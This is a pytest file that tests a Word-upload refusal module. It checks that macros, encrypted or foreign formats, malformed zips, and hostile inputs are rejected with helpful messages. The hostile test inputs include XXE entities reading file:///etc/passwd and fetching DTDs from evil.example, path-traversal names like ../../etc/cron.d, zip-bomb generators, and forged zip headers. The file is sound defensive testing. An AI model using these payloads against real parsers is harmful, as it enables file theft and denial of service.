"""Files that must not be opened: each is refused by its content, quickly, in words that say what to do."""

import io
import struct
import subprocess
import sys
import time
import zipfile
import zlib

import pytest

from editorial.importing.word import refusal
from editorial.importing.word.refusal import WordRefused, read_upload
from tests.unit.importing.word_files import HOUSE, TYPES, docx, p, packed, parts, r, relations, t

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
GOOD = docx(t(*HOUSE))


def refused(data: bytes) -> WordRefused:
    with pytest.raises(WordRefused) as caught:
        read_upload(io.BytesIO(data))
    return caught.value


def with_part(name: str, content: str | bytes) -> bytes:
    return packed({**parts(t("Text")), name: content})


def test_a_word_file_is_taken_as_it_is() -> None:
    assert read_upload(io.BytesIO(GOOD)) == GOOD


OTHERS = {
    "empty": (b"", "empty", "Save the document in Word again"),
    "old word": (OLE2, "old-format", "save it as a Word document (.docx)"),
    "locked": (OLE2 + "EncryptedPackage".encode("utf-16-le"), "encrypted", "remove the password"),
    "rtf": (b"{\\rtf1\\ansi Hello}", "rtf", "save it as a Word document (.docx)"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3", "pdf", "copy its text and paste it"),
    "html": (b"<!DOCTYPE html><html><body>Hello", "html", "save it as a Word document (.docx)"),
    "text": (b"Just a text that somebody renamed.", "text", "Paste the text instead"),
    "noise": (bytes(range(256)) * 20, "not-word", "save it as a Word document (.docx)"),
    "cut off": (GOOD[: len(GOOD) // 2], "damaged", "bring it in again"),
    "cut at the end": (GOOD[:-30], "damaged", "bring it in again"),
    "zip of other things": (packed({"a.txt": "a"}), "not-word", "Unpack it and bring in the Word file"),
    "odt": (
        packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "odt",
        "Save it as a Word document (.docx)",
    ),
    "workbook": (
        packed({**parts(""), "[Content_Types].xml": TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")}),
        "not-word",
        "Excel",
    ),
    "macros": (with_part("word/vbaProject.bin", b"x"), "macros", "which leaves them out"),
    "macros by type": (
        packed({**parts(""), "[Content_Types].xml": TYPES.replace(
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.document.macroEnabled.main+xml",
        )}),
        "macros",
        "which leaves them out",
    ),
    "control": (with_part("word/activeX/activeX1.bin", b"x"), "macros", "which leaves them out"),
    "program": (with_part("word/embeddings/oleObject1.bin", OLE2), "embedded-object", "replace it by a picture"),
    "no text part": (
        packed({name: text for name, text in parts("").items() if name != "word/document.xml"}),
        "damaged",
        "its text is missing",
    ),
    "broken xml": (with_part("word/document.xml", "<w:document><w:body>"), "damaged", "bring it in again"),
    "not in utf-8": (with_part("word/styles.xml", b"<a>\xff\xfe\xfd</a>"), "damaged", "bring it in again"),
    "strict": (
        packed({**parts(""), "word/document.xml": str(parts("")["word/document.xml"]).replace(
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
            "http://purl.oclc.org/ooxml/wordprocessingml/main",
        )}),
        "strict",
        "Word Document (.docx)",
    ),
    "up and away": (with_part("../../etc/cron.d/x.xml", "<a/>"), "unsafe", "a name in it leads elsewhere"),
    "absolute": (with_part("/etc/x.xml", "<a/>"), "unsafe", "a name in it leads elsewhere"),
    "drive": (with_part("C:/x.xml", "<a/>"), "unsafe", "a name in it leads elsewhere"),
}  # fmt: skip


@pytest.mark.parametrize("name", OTHERS)
def test_other_files_are_refused_with_what_to_do(name: str) -> None:
    data, reason, words = OTHERS[name]
    found = refused(data)
    assert found.reason == reason
    assert words in str(found)
    assert str(found).endswith((".", "instead."))


def test_a_file_over_the_limit_is_refused_without_reading_on(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(refusal, "MAX_BYTES", 1000)
    stream = io.BytesIO(bytes(10_000))
    with pytest.raises(WordRefused, match="larger than") as caught:
        read_upload(stream)
    assert caught.value.reason == "too-large"
    assert stream.tell() == 1001


DOCTYPES = {
    "laughs": '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    "outside": '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "parameter": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]><a/>',
    "bare": "<!DOCTYPE a><a/>",
}


@pytest.mark.parametrize("where", ["word/document.xml", "word/styles.xml", "docProps/core.xml", "customXml/item1.xml",
                                   "word/_rels/document.xml.rels"])  # fmt: skip
@pytest.mark.parametrize("trick", DOCTYPES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-7"])
def test_entities_and_document_types_are_refused_in_every_part(where: str, trick: str, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding.removesuffix("-sig")}"?>{DOCTYPES[trick]}'
    found = refused(with_part(where, text.encode(encoding)))
    assert found.reason in ("unsafe", "damaged")
    if encoding != "utf-7":
        assert "document type or entities" in str(found)


def test_parts_nested_too_deeply_are_refused() -> None:
    assert refused(with_part("word/document.xml", "<a>" * 5000 + "</a>" * 5000)).reason == "unsafe"


def test_too_many_elements_are_refused() -> None:
    assert (
        refused(with_part("word/numbering.xml", f"<a>{'<b/>' * 1_300_000}</a>")).reason == "unpacks-too-large"
    )


def test_too_many_files_are_refused() -> None:
    many = {**parts("Text"), **{f"word/media/{number}.png": b"" for number in range(3000)}}
    assert "too many files inside" in str(refused(packed(many)))


def test_a_name_that_stands_twice_is_refused() -> None:
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", "<a/>")
    assert "a name stands in it twice" in str(refused(out.getvalue()))


def test_parts_that_overlap_are_refused() -> None:
    data = bytearray(packed({**parts("Text"), "word/media/a.bin": b"a" * 50, "word/media/b.bin": b"a" * 50}))
    entry = data.rfind(b"PK\x01\x02")
    other = data.rfind(b"PK\x01\x02", 0, entry)
    data[entry + 42 : entry + 46] = data[other + 42 : other + 46]
    assert "its parts overlap" in str(refused(bytes(data)))


def test_a_part_that_unpacks_to_more_than_it_says_is_refused() -> None:
    """The size and check sum of the directory describe only the beginning of what is packed."""
    whole = b"<a>" + b" " * 5_000_000 + b"</a>"
    data = bytearray(packed({**parts("Text"), "word/zz.xml": whole}))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 16 : entry + 20] = struct.pack("<L", zlib.crc32(whole[:100]))
    data[entry + 24 : entry + 28] = struct.pack("<L", 100)
    assert "more than it says itself" in str(refused(bytes(data)))


def test_a_locked_part_is_refused() -> None:
    data = bytearray(GOOD)
    entry = data.find(b"PK\x01\x02")
    data[entry + 8] |= 1
    assert refused(bytes(data)).reason == "encrypted"


BOMB = """
import io, sys, time, zipfile
sys.path.insert(0, {root!r})
from tests.unit.importing.word_files import packed, parts
out = io.BytesIO(packed(parts("Text")))
with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    for number in range({files}):
        with archive.open({name!r}.format(number), "w") as member:
            member.write({head!r})
            for _ in range({blocks}):
                member.write({fill!r} * 1_000_000)
            member.write({tail!r})
from editorial.importing.word.refusal import WordRefused, read_upload
data = out.getvalue()
began = time.monotonic()
try:
    read_upload(io.BytesIO(data))
except WordRefused as error:
    # Not ru_maxrss: it begins with what the process had from which this one was forked.
    peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM"))
    print(error.reason, round(time.monotonic() - began, 2), int(peak.split()[1]) // 1024)
"""
BOMBS = {
    "one part of text of 600 MB": ("word/x{}.xml", 1, 600, b" ", b"<a>", b"</a>"),
    "one picture of 600 MB": ("word/media/x{}.png", 1, 600, b"\x00", b"", b""),
    "sixty pictures of 10 MB": ("word/media/x{}.png", 60, 10, b"\x00", b"", b""),
    "forty parts of text of 15 MB": ("word/x{}.xml", 40, 15, b" ", b"<a>", b"</a>"),
    "text of 15 MB in one element": ("word/x{}.xml", 4, 15, b"x", b"<a>", b"</a>"),
}


@pytest.mark.serial
@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
@pytest.mark.parametrize("name", BOMBS)
def test_a_zip_bomb_ends_in_seconds_and_in_bounded_memory(name: str, pytestconfig: pytest.Config) -> None:
    member, files, blocks, fill, head, tail = BOMBS[name]
    script = BOMB.format(
        root=str(pytestconfig.rootpath),
        name=member,
        files=files,
        blocks=blocks,
        fill=fill,
        head=head,
        tail=tail,
    )
    environment = {"DJANGO_SETTINGS_MODULE": "oewatch.settings", "PATH": "/usr/bin:/bin"}
    began = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", "import django; django.setup()\n" + script], capture_output=True, text=True,
        cwd=pytestconfig.rootpath, env=environment, timeout=120, check=False,
    )  # fmt: skip
    assert done.stdout, done.stderr[-2000:]
    reason, seconds, megabytes = done.stdout.split()
    print(f"{name}: {reason} after {seconds} s, {megabytes} MB, {time.monotonic() - began:.1f} s in all")
    assert reason == "unpacks-too-large"
    assert float(seconds) < 5
    assert int(megabytes) < 300


def test_nothing_outside_the_file_is_named_to_the_converter() -> None:
    from editorial.importing.word.normalize import normalize
    from editorial.importing.word.package import Package

    members = parts(
        p(r("A paragraph.")),
        ("rId5", "attachedTemplate", "http://evil.example/t.dotm", "External"),
        ("rId6", "image", "http://evil.example/i.png", "External"),
        ("rId7", "hyperlink", "https://fine.example/", "External"),
        more={
            "word/_rels/settings.xml.rels": relations(
                ("rId1", "attachedTemplate", "file:///x.dotm", "External")
            )
        },
    )
    made = normalize(Package(packed(members))).docx
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"evil.example" not in everything
    assert b"x.dotm" not in everything
    assert b"fine.example" in everything
